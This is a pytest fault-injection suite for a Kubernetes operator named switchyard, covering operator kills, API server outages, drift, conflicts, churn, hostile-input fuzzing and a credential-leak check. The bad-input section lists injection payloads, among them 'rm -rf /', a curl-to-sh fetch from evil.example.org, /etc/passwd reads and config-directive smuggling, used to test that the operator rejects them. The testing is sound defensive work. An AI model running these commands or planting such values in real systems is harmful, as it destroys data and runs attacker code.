"""It keeps working: the operator killed, the API server down, drift, conflicts, churn, bad input.

Runs on a cluster of its own (SWITCHYARD_FAULTS_CLUSTER, default
`<e2e cluster>-faults`): the API server outage must not disturb other suites,
and no operator but the ones these tests start (one per test, watching only
that test's namespace) may reconcile what they observe.

Sizes are scaled for CI; SWITCHYARD_SOAK=1 runs the long versions (see
`make soak`). Timings are recorded for bench/results/reliability.md when
SWITCHYARD_RELIABILITY_REPORT is set; no test asserts a wall-clock time.
"""

from __future__ import annotations

import copy
import functools
import json
import os
import random
import threading
import time
import uuid

import pytest

import localcluster
from facilities import facility
from faults import (ApiServerOutage, Operator, leftovers, normalised_children, ownership_problems, record,
                    replicas_per_switch)
from harness import temporary_namespace
from support import CLUSTER_NAME, TOPOLOGY, ready_condition, wait_for

from switchyard.apply import ApiError, Kube

pytestmark = pytest.mark.e2e

SOAK = os.environ.get("SWITCHYARD_SOAK", "") not in ("", "0")
SEED = int(os.environ.get("SWITCHYARD_FAULTS_SEED", "20261122"))
FAULTS_CLUSTER = os.environ.get("SWITCHYARD_FAULTS_CLUSTER", f"{CLUSTER_NAME}-faults")
LOGS = localcluster.CACHE / "e2e-logs" / FAULTS_CLUSTER

KILLS = 10 if SOAK else 3
FLEET_WORKERS = 1000 if SOAK else 200
OUTAGES = (30, 120) if SOAK else (30,)
CONFLICT_PATCHES = 200 if SOAK else 20
CHURN_CYCLES = 500 if SOAK else 20
SOAK_TOPOLOGY = TOPOLOGY.with_name("soak.yaml")


class FaultCluster:
    def __init__(self, name: str):
        self.name = name
        self.kubeconfig = localcluster.kubeconfig_path(name)
        self.kube = Kube.from_environment(str(self.kubeconfig))

    def kubectl(self, *args: str, check: bool = True) -> str:
        return localcluster.kubectl(self.name, *args, check=check)


@pytest.fixture(scope="module")
def fcluster() -> FaultCluster:
    # The full-size runs need more room than mini.yaml's 476 one-core workers.
    localcluster.up(FAULTS_CLUSTER, SOAK_TOPOLOGY if SOAK else TOPOLOGY)
    localcluster.install_crds(FAULTS_CLUSTER)
    yield FaultCluster(FAULTS_CLUSTER)
    if not os.environ.get("SWITCHYARD_KEEP_CLUSTER"):
        localcluster.down(FAULTS_CLUSTER)


@pytest.fixture
def ns(fcluster):
    yield from temporary_namespace(fcluster.kube, "faults")


@pytest.fixture
def operators(fcluster, request):
    """Start operators (one watched namespace each); all are stopped when the test ends."""
    started: list[Operator] = []

    def start(namespace: str, tag: str = "op") -> Operator:
        path = LOGS / f"{request.node.name}-{tag}.log"
        op = Operator(fcluster.kubeconfig, namespace, path).start()
        started.append(op)
        return op
    yield start
    # kopf holds a finalizer on every object it runs a daemon for: remove the
    # namespace while its operator still runs, then stop the operator.
    for op in started:
        if fcluster.kube.get("Namespace", None, op.namespace) is not None:
            release_namespace(fcluster.kube, op.namespace, op)
        op.stop()


def release_namespace(kube, name: str, op: Operator, timeout: float = 120) -> None:
    """Delete the switchyard objects (their operator clears its finalizers), then the namespace, without waiting."""
    kinds = ("AnalysisFacility", "S3Staging", "WorkerFleet", "XCachePool")
    for kind in kinds:
        for obj in kube.list(kind, name):
            kube.delete(kind, name, obj["metadata"]["name"])

    def gone():
        if not op.alive():
            op.start()
        return not any(kube.list(kind, name) for kind in kinds)
    wait_for(gone, timeout=timeout, what=f"switchyard objects in {name} gone")
    kube.delete("Namespace", None, name)


def delete_namespace(kube, name: str, op: Operator, timeout: float = 240) -> None:
    """Delete a namespace and wait until it is gone, keeping its operator running meanwhile."""
    kube.delete("Namespace", None, name)

    def gone():
        if not op.alive():
            op.start()
        return kube.get("Namespace", None, name) is None
    wait_for(gone, timeout=timeout, what=f"namespace {name} gone")


def in_ns(obj: dict, namespace: str) -> dict:
    obj["metadata"]["namespace"] = namespace
    return obj


def facility_state(kube, namespace, name="af"):
    af = kube.get("AnalysisFacility", namespace, name)
    return af, ready_condition(af or {})


def wait_converged(kube, namespace, name="af", generation=None, timeout=240, workers=None):
    """Ready at the generation, every child Ready at its own, and (optionally) the fleet's pods Running."""
    waiting = {"for": "the facility"}

    def check():
        af, cond = facility_state(kube, namespace, name)
        if not af or cond.get("status") != "True":
            fleets = [(f["metadata"]["name"], f["spec"].get("replicas"), ready_condition(f).get("message"),
                       (f.get("status") or {}).get("switches")) for f in kube.list("WorkerFleet", namespace)]
            deployments = [(d["metadata"]["name"], d["spec"]["replicas"], (d.get("status") or {}).get("readyReplicas"))
                           for d in kube.list("Deployment", namespace)]
            unready = [(p["metadata"]["name"], p["status"].get("phase"), p["spec"].get("nodeName"),
                        bool(p["metadata"].get("deletionTimestamp")),
                        [(c["type"], c["status"]) for c in p["status"].get("conditions") or []])
                       for p in kube.list("Pod", namespace, {"app.kubernetes.io/component": "worker"})
                       if not any(c["type"] == "Ready" and c["status"] == "True" for c in p["status"].get("conditions") or [])]
            waiting["for"] = (f"facility Ready (now {cond.get('reason')}: {cond.get('message')}); "
                              f"fleets {fleets}; deployments {deployments}; worker pods not ready {unready[:8]}")
            return None
        gen = generation or af["metadata"]["generation"]
        if af["status"].get("observedGeneration") != gen:
            waiting["for"] = f"facility observedGeneration {af['status'].get('observedGeneration')} -> {gen}"
            return None
        for kind in ("XCachePool", "WorkerFleet"):
            for child in kube.list(kind, namespace):
                child_ready = ready_condition(child)
                if child_ready.get("status") != "True" or \
                        child["status"].get("observedGeneration") != child["metadata"]["generation"]:
                    waiting["for"] = (f"{kind} {child['metadata']['name']} Ready at generation "
                                      f"{child['metadata']['generation']} (now {child_ready.get('reason')}: "
                                      f"{child_ready.get('message')}, observed {child['status'].get('observedGeneration')}; "
                                      f"spec.replicas {child['spec'].get('replicas')}, switches {child['status'].get('switches')}; "
                                      f"deployments {[(d['metadata']['name'], d['spec']['replicas'], d.get('status', {}).get('readyReplicas')) for d in kube.list('Deployment', namespace)]})")
                    return None
        if workers is not None:
            running = sum(1 for p in kube.list("Pod", namespace, {"app.kubernetes.io/component": "worker"})
                          if p["status"].get("phase") == "Running" and not p["metadata"].get("deletionTimestamp"))
            if running != workers:
                waiting["for"] = f"{workers} running workers (now {running})"
                return None
        return af
    try:
        return wait_for(check, timeout, what=f"{name} converged")
    except AssertionError as exc:
        raise AssertionError(f"{exc}; still waiting for {waiting['for']}") from None


def big_facility(workers: int) -> dict:
    obj = facility(workers=workers)
    fleet = obj["spec"]["fleets"][0]
    fleet.update(cores=1, memoryGiB=2, readGbps=0.1)
    fleet["rampUp"] = {"maxStartsPerSecond": 1000}
    return obj


# ------------------------------------------------------------------ 1. operator killed
def test_operator_sigkilled_while_converging_ends_as_an_undisturbed_run(fcluster, operators):
    kube = fcluster.kube
    rng = random.Random(SEED)

    # The undisturbed run, in a namespace of its own; removed before the disturbed one
    # so both plan against the same free nodes.
    ref_ns = f"faults-ref-{uuid.uuid4().hex[:6]}"
    kube.apply({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": ref_ns}})
    op = operators(ref_ns, "undisturbed")
    kube.apply(in_ns(big_facility(FLEET_WORKERS), ref_ns))
    af = wait_converged(kube, ref_ns, workers=FLEET_WORKERS, timeout=600)
    reference = normalised_children(kube, ref_ns, af["metadata"]["uid"])
    reference_replicas = replicas_per_switch(kube, ref_ns)
    delete_namespace(kube, ref_ns, op, timeout=300)
    op.stop()

    ns = f"faults-kill-{uuid.uuid4().hex[:6]}"
    kube.apply({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": ns}})
    op = operators(ns, "killed")
    start = time.monotonic()
    kube.apply(in_ns(big_facility(FLEET_WORKERS), ns))
    moments = []
    for _ in range(KILLS):
        moment = rng.uniform(0.5, 6.0)
        time.sleep(moment)
        op.kill()
        moments.append(round(moment, 2))
        time.sleep(rng.uniform(0, 1.0))
        op.start()
    last_kill = time.monotonic()
    af = wait_converged(kube, ns, workers=FLEET_WORKERS, timeout=600)
    reconverged = time.monotonic() - last_kill

    assert ownership_problems(kube, ns) == []
    got = normalised_children(kube, ns, af["metadata"]["uid"])
    assert sorted(got) == sorted(reference)
    for key in reference:
        assert got[key] == reference[key], f"{key} differs from the undisturbed run"
    assert replicas_per_switch(kube, ns) == reference_replicas
    assert sum(reference_replicas.values()) == FLEET_WORKERS
    assert op.alive()
    record("faults", {"class": "operator SIGKILL", "injected": KILLS, "survived": KILLS,
                      "workers": FLEET_WORKERS, "kill_after_seconds": moments, "seed": SEED,
                      "reconverge_seconds": round(reconverged, 1),
                      "total_seconds": round(time.monotonic() - start, 1)})


# ------------------------------------------------------------------ 2. API server down
@pytest.mark.parametrize("outage_seconds", OUTAGES)
def test_api_server_outage_neither_crashes_nor_spins(fcluster, operators, ns, outage_seconds):
    kube = fcluster.kube
    op = operators(ns)
    obj = in_ns(facility(workers=6), ns)
    kube.apply(obj)
    af = wait_converged(kube, ns, workers=6)

    # A change, then the API server goes away while the operator acts on it.
    obj["spec"]["fleets"][0]["replicas"] = 9
    kube.apply(obj)
    outage = ApiServerOutage(fcluster.name)
    time.sleep(0.3)
    lines_before = op.log_lines()
    outage.stop()
    down_at = time.monotonic()
    # The first seconds hold the burst of reporting the failed requests; spinning
    # shows in what follows.
    time.sleep(5)
    lines0, cpu0, steady_at = op.log_lines(), op.cpu_seconds(), time.monotonic()
    time.sleep(outage_seconds - 5)
    lines1, cpu1 = op.log_lines(), op.cpu_seconds()
    steady_for = time.monotonic() - steady_at
    alive_during = op.alive()
    outage.start()
    up_at = time.monotonic()
    down_for = up_at - down_at

    assert alive_during and op.alive(), "the operator exited during the outage"
    cpu_share = (cpu1 - cpu0) / steady_for
    lines_per_second = (lines1 - lines0) / steady_for
    # Not spinning: well under a fifth of one core, and no more than a few log lines a second.
    assert cpu_share < 0.2, f"operator used {cpu_share:.0%} of a core while the API server was down"
    assert lines_per_second < 5, f"{lines_per_second:.1f} log lines/s while the API server was down"

    # Resumes and converges on the change made before the outage ...
    gen = af["metadata"]["generation"] + 1
    wait_converged(kube, ns, generation=gen, workers=9, timeout=300)
    resumed = time.monotonic() - up_at
    # ... and its watches recovered: a change made after the restart is reconciled.
    obj["spec"]["fleets"][0]["replicas"] = 4
    kube.apply(obj)
    changed_at = time.monotonic()
    wait_converged(kube, ns, generation=gen + 1, workers=4, timeout=300)
    after_change = time.monotonic() - changed_at
    assert sum(replicas_per_switch(kube, ns).values()) == 4
    assert ownership_problems(kube, ns) == []
    record("faults", {"class": f"API server down {outage_seconds}s", "injected": 1, "survived": 1,
                      "outage_seconds": round(down_for, 1), "operator_cpu_share_during_outage": round(cpu_share, 4),
                      "operator_log_lines_per_second_during_outage": round(lines_per_second, 2),
                      "operator_log_lines_first_5s_of_outage": lines0 - lines_before,
                      "reconverge_seconds": round(resumed, 1),
                      "post_restart_change_reconciled_seconds": round(after_change, 1)})


# ------------------------------------------------------------------ 3. drift
def test_drift_is_restored_and_foreign_metadata_kept(fcluster, operators, ns):
    kube = fcluster.kube
    operators(ns)
    kube.apply(in_ns(facility(workers=6), ns))
    wait_converged(kube, ns, workers=6)
    deployments = sorted(kube.list("Deployment", ns, {"switchyard.dev/fleet": "af-dask"}),
                         key=lambda d: d["metadata"]["name"])
    assert len(deployments) >= 2, "the plan spreads six workers over at least two switches"
    want = {d["metadata"]["name"]: d["spec"]["replicas"] for d in deployments}
    deleted, edited = deployments[0]["metadata"]["name"], deployments[1]["metadata"]["name"]
    config = kube.list("ConfigMap", ns, {"app.kubernetes.io/managed-by": "switchyard"})[0]["metadata"]["name"]

    # Another tool's label and annotation on two children.
    fcluster.kubectl("label", "deployment", edited, "-n", ns, "example.org/team=atlas")
    fcluster.kubectl("annotate", "deployment", edited, "-n", ns, "example.org/audit=kept")
    fcluster.kubectl("annotate", "configmap", config, "-n", ns, "example.org/backup=nightly")
    # Someone deletes one Deployment and scales another by hand.
    start = time.monotonic()
    kube.delete("Deployment", ns, deleted)
    fcluster.kubectl("scale", "deployment", edited, "-n", ns, f"--replicas={want[edited] + 7}")

    def restored():
        cur = {d["metadata"]["name"]: d for d in kube.list("Deployment", ns, {"switchyard.dev/fleet": "af-dask"})}
        return cur if {n: d["spec"]["replicas"] for n, d in cur.items()} == want else None
    wait_for(restored, timeout=120, what="deleted and scaled Deployments restored")
    took = time.monotonic() - start
    # One more resync period passes; the other tool's metadata is still there.
    time.sleep(12)
    assert restored(), "drift came back"
    dep = kube.get("Deployment", ns, edited)
    assert dep["metadata"]["labels"].get("example.org/team") == "atlas"
    assert dep["metadata"]["annotations"].get("example.org/audit") == "kept"
    assert kube.get("ConfigMap", ns, config)["metadata"]["annotations"].get("example.org/backup") == "nightly"
    assert ownership_problems(kube, ns) == []
    record("faults", {"class": "drift (Deployment deleted, replicas edited)", "injected": 2, "survived": 2,
                      "reconverge_seconds": round(took, 1), "foreign_metadata_kept": 3})


# ------------------------------------------------------------------ 4. conflicts
def test_concurrent_writers_never_lose_an_update(fcluster, operators, ns):
    kube = fcluster.kube
    operators(ns)
    obj = in_ns(facility(workers=6), ns)
    kube.apply(obj)
    wait_converged(kube, ns, workers=6)
    rng = random.Random(SEED + 4)
    other = Kube.from_environment(str(fcluster.kubeconfig))
    stop = threading.Event()
    child_writes = {"n": 0, "conflicts": 0}

    def meddle():
        # A second client writes the children (annotations, by merge patch with the
        # read resourceVersion, so it gets real 409s) while the operator reconciles.
        while not stop.is_set():
            for kind in ("WorkerFleet", "XCachePool", "Deployment"):
                for o in other.list(kind, ns, {"app.kubernetes.io/managed-by": "switchyard"}):
                    body = {"metadata": {"resourceVersion": o["metadata"]["resourceVersion"],
                                         "annotations": {"example.org/touched": str(child_writes["n"])}}}
                    try:
                        other.request("PATCH", f"{_path(kind, ns)}/{o['metadata']['name']}", body,
                                      content_type="application/merge-patch+json")
                        child_writes["n"] += 1
                    except Exception as exc:  # noqa: BLE001 - 409s are the point
                        if "409" in str(exc):
                            child_writes["conflicts"] += 1
            time.sleep(0.05)

    thread = threading.Thread(target=meddle, daemon=True)
    thread.start()
    last = 6
    try:
        for i in range(CONFLICT_PATCHES):
            last = rng.randint(1, 24)
            block = rng.choice([1024, 2048, 4096])
            # Merge patch by another field manager, as `kubectl patch` would.
            fcluster.kubectl("patch", "analysisfacility", "af", "-n", ns, "--type=merge", "-p",
                             '{"spec":{"fleets":[{"name":"dask","replicas":%d,"cores":2,"memoryGiB":4,"readGbps":1,'
                             '"dask":{"schedulerAddress":"tcp://scheduler.example.org:8786"}}],'
                             '"targetGbps":%d}}' % (last, 100 + i))
            fcluster.kubectl("patch", "analysisfacility", "af", "-n", ns, "--type=json", "-p",
                             '[{"op":"add","path":"/spec/cachePools/0/pfc","value":{"blockSizeKiB":%d}}]' % block)
            time.sleep(rng.uniform(0, 0.5))
    finally:
        # The other client stops with the patches: left running, its 409-provoking writes
        # every few milliseconds starve kube-controller-manager's own status updates of the
        # Deployments (seen: all pods Ready, readyReplicas stale for minutes), which would
        # measure the Deployment controller's backoff, not switchyard.
        stop.set()
        thread.join(timeout=30)
    patched = time.monotonic()
    final = kube.get("AnalysisFacility", ns, "af")
    af = wait_converged(kube, ns, generation=final["metadata"]["generation"], workers=last, timeout=300)
    assert af["spec"]["fleets"][0]["replicas"] == last
    fleet = kube.get("WorkerFleet", ns, "af-dask")
    assert fleet["spec"]["replicas"] == last
    assert sum(replicas_per_switch(kube, ns).values()) == last
    assert af["status"]["workers"] == last
    cfg = kube.get("ConfigMap", ns, "af-xcache-xrootd")["data"]["xcache.cfg"]
    assert f"pfc.blocksize {block}k" in cfg
    assert ownership_problems(kube, ns) == []
    record("faults", {"class": "concurrent writers", "injected": 2 * CONFLICT_PATCHES, "survived": 2 * CONFLICT_PATCHES,
                      "facility_patches": 2 * CONFLICT_PATCHES, "child_writes_by_other_client": child_writes["n"],
                      "conflicts_409_seen_by_other_client": child_writes["conflicts"],
                      "reconverge_seconds": round(time.monotonic() - patched, 1)})


def _path(kind: str, ns: str) -> str:
    from switchyard.apply import RESOURCES
    return RESOURCES[kind].path(ns)


# ------------------------------------------------------------------ 5. churn
def test_churn_leaves_nothing_behind(fcluster, operators, ns):
    kube = fcluster.kube
    operators(ns)
    rng = random.Random(SEED + 5)
    start = time.monotonic()
    for i in range(CHURN_CYCLES):
        obj = in_ns(facility(f"churn-{i % 3}", workers=2), ns)
        kube.apply(obj)
        # Delete at a random point: before the operator saw it, mid-apply, or once Ready.
        time.sleep(rng.choice([0, 0.2, 1.0, 3.0]))
        kube.delete("AnalysisFacility", ns, obj["metadata"]["name"])
        wait_for(lambda: kube.get("AnalysisFacility", ns, obj["metadata"]["name"]) is None, timeout=60,
                 interval=0.2, what="facility deleted")
    cycled = time.monotonic()
    wait_for(lambda: not leftovers(kube, ns), timeout=180, what="no objects left after churn")
    drained = time.monotonic() - cycled
    # Stay empty: a late reconcile must not resurrect children of a deleted owner.
    time.sleep(12)
    left = leftovers(kube, ns)
    record("churn", {"cycles": CHURN_CYCLES, "objects_leaked": sum(len(v) for v in left.values()), "leaked": left,
                     "kinds_checked": ["AnalysisFacility", "XCachePool", "WorkerFleet", "S3Staging", "StatefulSet",
                                       "Deployment", "Service", "ConfigMap", "PodDisruptionBudget", "Secret", "Pod"],
                     "drain_seconds": round(drained, 1), "total_seconds": round(time.monotonic() - start, 1)})
    assert left == {}


# ------------------------------------------------------------------ 6. bad input
BAD_INPUT_EXAMPLES = 1000 if SOAK else 200
EVIL = "evil"  # every injected directive names it, so a rendered config can be searched for it
HOSTILE_STRINGS = [
    "$(rm -rf /)", "`reboot`", "a; rm -rf /", "x && curl http://evil.example.org | sh", "${IFS}cat${IFS}/etc/passwd",
    "x\nall.export /evil", "origin.example.org\npss.origin evil.example.org:1094", "ok\r\nofs.authlib /evil.so",
    "host:1094 evil", "'\"\\", "nul\u0000byte", "../../etc/passwd", "{{ .Values.evil }}", "%n%s%x", "€vil ünïcode",
    "evil\tpfc.diskusage 0 0", "A" * 5000, "", " ", "-", "--evil",
]
EXTREME_NUMBERS = [-1, 0, -(2**63), 2**63, 2**31, 1e308, -1e308, 1e-308, 0.5, 100001]
WRONG_TYPES = {"string": [12345, True, [], {"a": 1}], "number": ["fast", [1], {"n": 1}, True],
               "integer": ["7", 1.5, [], False], "boolean": ["yes", 1, []], "object": ["x", 5, [1]],
               "array": ["x", {"a": 1}, 3]}


_EXTERNAL = {"url": "https://s3.example.org", "credentialsSecret": "keys"}
# Values the schema's types admit but their consumers refuse (the hostile-input classes of
# e2e/test_hostile.py), aimed at the fields that carry them: (class, path, value).
TARGETED = [
    *(("host path", ("cachePools", 0, "storage", "dataPaths", 0), v) for v in (
        "/etc", "/proc", "/var/run", "/var/lib/kubelet/pods", "/mnt/../etc", "//mnt/x", "/mnt/x/.", "/mnt", "/mntx/y",
        "/root/.ssh")),
    *(("host path", ("cachePools", 0, "storage", "metaPath"), v) for v in ("/var/lib/kubelet", "/mnt/nvme0/meta", "/dev")),
    *(("address", ("fleets", 0, "dask", "schedulerAddress"), v) for v in (
        "tcp://s.example.org:99999", "tcp://s.example.org:0", "tcp://s..example.org:8786")),
    *(("address", ("cachePools", 0, "origin", "host"), v) for v in ("origin.example.org:1094:", "ab:1094:", "a:b")),
    *(("image look-alike", ("cachePools", 0, "image"), v) for v in (
        "ghcr.io/site/../evil/x:1", "ghcr.io//x:1", "ghcr.io/site-/x:1", "ghcr.io:99999/x")),
    *(("reserved env", ("fleets", 0, "env", 0, "name"), v) for v in (
        "POD_NAME", "SWITCHYARD_CACHE_ENDPOINT", "AWS_SECRET_ACCESS_KEY")),
    *(("tiny memory", ("fleets", 0, "memoryGiB"), v) for v in (1e-12, 0.001)),
    *(("bucket name", ("staging",), {"external": _EXTERNAL, "buckets": [{"name": v}]}) for v in (
        "a..b", "192.168.0.1", "xn--x", "x-s3alias", "x.mrap")),
]


@functools.lru_cache(maxsize=1)
def _schema_fields() -> list[tuple[tuple, str]]:
    """(path, type) of every field of AnalysisFacility.spec, from the generated CRD; lists at index 0."""
    import yaml
    crd = yaml.safe_load((localcluster.REPO / "crds" / "switchyard.dev_analysisfacilities.yaml").read_text())
    spec = crd["spec"]["versions"][0]["schema"]["openAPIV3Schema"]["properties"]["spec"]
    out = []

    def walk(node, path):
        kind = node.get("type", "object")
        if path:
            out.append((tuple(path), kind))
        if kind == "object":
            for key, child in (node.get("properties") or {}).items():
                walk(child, path + [key])
        elif kind == "array":
            walk(node.get("items", {}), path + [0])
    walk(spec, [])
    return out


def _set_path(spec: dict, path: tuple, value) -> None:
    """Set spec[path] = value, making (or replacing) the containers on the way."""
    target = spec
    for key, nxt in zip(path[:-1], path[1:]):
        want = list if isinstance(nxt, int) else dict
        if isinstance(key, int):
            while len(target) <= key:
                target.append(want())
            if not isinstance(target[key], want):
                target[key] = want()
        elif not isinstance(target.get(key), want):
            target[key] = want()
        target = target[key]
    last = path[-1]
    if isinstance(last, int):
        while len(target) <= last:
            target.append(None)
    target[last] = value


def _mutations():
    from hypothesis import strategies as st
    fields = _schema_fields()
    strings = [p for p, t in fields if t == "string"]
    numbers = [p for p, t in fields if t in ("number", "integer")]
    objects = [()] + [p for p, t in fields if t == "object"]
    lists = [p for p, t in fields if t == "array"]
    return st.one_of(
        st.tuples(st.just("injection string"), st.sampled_from(strings), st.sampled_from(HOSTILE_STRINGS)),
        st.tuples(st.just("extreme number"), st.sampled_from(numbers), st.sampled_from(EXTREME_NUMBERS)),
        st.sampled_from(fields).flatmap(lambda f: st.tuples(st.just("wrong type"), st.just(f[0]),
                                                            st.sampled_from(WRONG_TYPES[f[1]]))),
        st.tuples(st.just("unknown field"), st.sampled_from(objects),
                  st.sampled_from(["bogus", "$(evil)", "spec", "x\nall.export /evil"])),
        # 5,000-item lists cost the API server seconds each to refuse: soak only.
        st.tuples(st.just("huge list"), st.sampled_from(lists), st.sampled_from([65, 1001, 5000] if SOAK else [65, 1001])),
        st.sampled_from(TARGETED),
    )


def _mutate(spec: dict, mutation) -> None:
    cls, path, value = mutation
    if cls == "unknown field":
        target = spec
        for key in path:
            target = target[key] if isinstance(target, dict) and key in target else None
            if target is None:
                return _set_path(spec, path + (value,), 1)
        if isinstance(target, dict):
            target[value] = 1
        return None
    if cls == "huge list":
        field_types = dict(_schema_fields())
        item_path = path + (0,)
        item = {"string": "item", "number": 1, "integer": 1}.get(field_types.get(item_path), {"name": "x"})
        if path == ("network", "switches"):
            item = None
        items = [{"name": f"s{i}", "uplinkGbps": 10} for i in range(value)] if item is None else \
            [copy.deepcopy(item) for _ in range(value)]
        return _set_path(spec, path, items)
    return _set_path(spec, path, value)


def _describe(mutations) -> str:
    return repr([(c, p, v if not isinstance(v, str) or len(v) < 40 else f"<{len(v)} chars>") for c, p, v in mutations])[:300]


def _workload_snapshot(kube, ns, facility_uid):
    """What must not change for a running facility: specs (generations), data, pods."""
    snap = {}
    for o in kube.list("Pod", ns):
        if (o["metadata"].get("labels") or {}).get("switchyard.dev/facility") == "ref" or \
                o["metadata"]["name"].startswith("ref-"):
            snap[f"Pod/{o['metadata']['name']}"] = o["metadata"]["uid"]
    for kind in ("XCachePool", "WorkerFleet", "StatefulSet", "Deployment", "PodDisruptionBudget"):
        for o in kube.list(kind, ns):
            if o["metadata"]["name"].startswith("ref-"):
                snap[f"{kind}/{o['metadata']['name']}"] = (o["metadata"]["uid"], o["metadata"]["generation"])
    for kind in ("ConfigMap", "Service"):
        for o in kube.list(kind, ns, {"app.kubernetes.io/managed-by": "switchyard"}):
            if o["metadata"]["name"].startswith("ref-"):
                snap[f"{kind}/{o['metadata']['name']}"] = (o["metadata"]["uid"], o.get("data"),
                                                           (o.get("spec") or {}).get("ports"))
    return snap


def test_hostile_specs_are_refused_or_reported_and_change_nothing(fcluster, operators, ns):
    from hypothesis import HealthCheck, given, seed, settings
    from hypothesis import strategies as st

    kube = fcluster.kube
    operators(ns)
    kube.apply(in_ns(facility("ref", workers=6), ns))
    ref = wait_converged(kube, ns, name="ref", workers=6)
    before = _workload_snapshot(kube, ns, ref["metadata"]["uid"])
    assert before
    outcomes: list[dict] = []
    accepted: list[str] = []
    counter = iter(range(10**6))

    @seed(SEED + 6)
    @settings(max_examples=BAD_INPUT_EXAMPLES, deadline=None, database=None,
              suppress_health_check=list(HealthCheck))
    @given(st.lists(_mutations(), min_size=1, max_size=3))
    def try_one(mutations):
        name = f"bad-{next(counter)}"
        obj = in_ns(facility(name, workers=2), ns)
        # The one free-text field without a pattern (worker env values) exists to be hit.
        obj["spec"]["fleets"][0]["env"] = [{"name": "SY_NOTE", "value": "plain"}]
        started = time.monotonic()
        for mutation in mutations:
            _mutate(obj["spec"], mutation)
        classes = sorted({m[0] for m in mutations})
        try:
            kube.request("POST", _path("AnalysisFacility", ns), obj, query={"fieldValidation": "Strict"})
        except ApiError as exc:
            assert 400 <= exc.status < 500, f"{name}: server error {exc} for {mutations}"
            assert exc.message.strip(), f"{name}: refused without a message"
            outcomes.append({"name": name, "classes": classes, "answer": "refused", "status": exc.status,
                             "seconds": time.monotonic() - started, "mutations": _describe(mutations)})
            return
        accepted.append(name)
        outcomes.append({"name": name, "classes": classes, "answer": "accepted", "mutations": _describe(mutations),
                         "seconds": time.monotonic() - started})

    start = time.monotonic()
    try_one()
    submitted = time.monotonic() - start

    # Every accepted one is answered: a Ready condition with a reason at its generation.
    def answered(name):
        af = kube.get("AnalysisFacility", ns, name)
        cond = ready_condition(af)
        if af["status"].get("observedGeneration") != af["metadata"]["generation"] if af.get("status") else True:
            return None
        return cond if cond.get("reason") else None
    by_name = {o["name"]: o for o in outcomes}
    answering = time.monotonic()
    for name in accepted:
        cond = wait_for(lambda: answered(name), timeout=180, what=f"{name} answered with a Ready condition")
        by_name[name]["answer"] = f"accepted, Ready={cond['status']} ({cond['reason']})"

    answered_in = time.monotonic() - answering

    # Nothing of the running reference facility changed, and no handler crashed.
    after = _workload_snapshot(kube, ns, ref["metadata"]["uid"])
    assert after == before
    tracebacks = [path.name for path in LOGS.glob("test_hostile_specs*.log")
                  if "Traceback (most recent call last)" in path.read_text(errors="replace")]
    assert tracebacks == [], f"operator tracebacks in {tracebacks}"
    assert ready_condition(kube.get("AnalysisFacility", ns, "ref")).get("status") == "True"

    # No user string reached an xrootd config or a command line.
    markers = ("$(rm", "`", EVIL, "\r", "${IFS}", "{{", "rm -rf", "passwd")
    scanned = 0
    for cm in kube.list("ConfigMap", ns, {"app.kubernetes.io/managed-by": "switchyard"}):
        for key, text in (cm.get("data") or {}).items():
            scanned += 1
            for marker in markers:
                assert marker not in text, f"ConfigMap {cm['metadata']['name']} {key} carries {marker!r}"
    for kind in ("Deployment", "StatefulSet"):
        for o in kube.list(kind, ns, {"app.kubernetes.io/managed-by": "switchyard"}):
            for c in o["spec"]["template"]["spec"].get("containers", []) + \
                    o["spec"]["template"]["spec"].get("initContainers", []):
                line = " ".join(c.get("command", []) + c.get("args", []))
                for marker in markers:
                    assert marker not in line, f"{kind} {o['metadata']['name']} command line carries {marker!r}"

    summary: dict[str, dict[str, int]] = {}
    for o in outcomes:
        for cls in o["classes"]:
            summary.setdefault(cls, {}).setdefault(o["answer"], 0)
            summary[cls][o["answer"]] += 1
    record("bad_input", {"examples": len(outcomes), "seed": SEED + 6, "refused": sum(o["answer"] == "refused" for o in outcomes),
                         "accepted": len(accepted), "by_class": summary, "configmap_entries_scanned": scanned,
                         "reference_objects_unchanged": len(before), "operator_tracebacks": len(tracebacks), "submit_seconds": round(submitted, 1), "answer_seconds": round(answered_in, 1),
                         "api_answer_seconds_max": round(max(o["seconds"] for o in outcomes), 3),
                         "slowest_api_answers": [{"seconds": round(o["seconds"], 2), "mutations": o["mutations"]}
                                                 for o in sorted(outcomes, key=lambda o: -o["seconds"])[:5]],
                         "accepted_examples": [{k: v for k, v in by_name[n].items() if k != "seconds"}
                                               for n in accepted][:50]})


# ------------------------------------------------------------------ 7. credentials (runs last: scans every log above)
TEST_ACCESS_KEY = "SYFAULTSACCESSKEY7Q2X"
TEST_SECRET_KEY = "syFaults/Secret+Key/9mN4pL0vR8tW2yZ5"


def test_no_credential_in_operator_logs_events_or_status(fcluster, operators, ns):
    """An S3 staging area whose endpoint refuses connections: keys are read, used, and appear nowhere."""
    kube = fcluster.kube
    operators(ns, "credentials")
    kube.apply({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "s3-admin", "namespace": ns},
                "stringData": {"accessKey": TEST_ACCESS_KEY, "secretKey": TEST_SECRET_KEY}})
    kube.apply({"apiVersion": "switchyard.dev/v1alpha1", "kind": "S3Staging", "metadata": {"name": "stage", "namespace": ns},
                "spec": {"external": {"url": "http://127.0.0.1:9", "region": "us-east-1", "credentialsSecret": "s3-admin"},
                         "buckets": [{"name": "ntuples", "lifetimeDays": 7}], "usageIntervalSeconds": 5}})

    def reported():
        obj = kube.get("S3Staging", ns, "stage")
        cond = ready_condition(obj)
        return obj if cond.get("status") == "False" and cond.get("reason") else None
    wait_for(reported, timeout=120, what="S3Staging reports the unreachable endpoint")
    # The consumer Secret is written from the keys (proof the operator read them).
    wait_for(lambda: kube.get("Secret", ns, "stage-s3-credentials"), timeout=60, what="consumer credentials Secret")
    time.sleep(10)  # a few more failed probes, each one logged

    found, scanned = [], {"operator_log_files": 0, "operator_log_bytes": 0, "events": 0, "status_objects": 0}
    needles = (TEST_ACCESS_KEY, TEST_SECRET_KEY)
    for path in sorted(LOGS.glob("*.log")):
        text = path.read_text(errors="replace")
        scanned["operator_log_files"] += 1
        scanned["operator_log_bytes"] += len(text)
        found += [f"{path.name}: {n[:4]}…" for n in needles if n in text]
    for event in kube.list("Event"):
        scanned["events"] += 1
        blob = json.dumps(event)
        found += [f"event {event['metadata']['name']}" for n in needles if n in blob]
    for kind in ("AnalysisFacility", "XCachePool", "WorkerFleet", "S3Staging"):
        for obj in kube.list(kind):
            scanned["status_objects"] += 1
